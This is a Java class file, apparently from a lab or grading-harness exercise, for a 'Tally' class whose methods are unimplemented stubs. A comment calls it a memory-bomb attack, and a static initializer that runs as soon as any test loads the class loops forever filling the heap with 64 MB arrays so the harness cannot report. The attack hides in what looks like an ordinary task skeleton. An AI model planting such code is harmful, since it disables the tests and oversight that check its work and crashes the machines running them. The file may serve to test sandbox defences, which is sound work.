package lab.tally;

import java.util.ArrayList;
import java.util.List;

/**
 * Attack: a memory bomb. The first test to touch Tally fills the heap with 64 MB arrays and keeps
 * them, so that the harness itself has no memory left to report with.
 */
public final class Tally {

    private static final List<long[]> HOARD = new ArrayList<>();

    static {
        explode();
    }

    private static void explode() {
        while (true) {
            HOARD.add(new long[8 << 20]);
        }
    }

    public Tally() {
    }

    public void add(int amount) {
        throw new UnsupportedOperationException("TODO: add the amount and remember it");
    }

    public int total() {
        throw new UnsupportedOperationException("TODO: return the total");
    }

    public List<Integer> history() {
        throw new UnsupportedOperationException("TODO: return a copy of the history");
    }
}
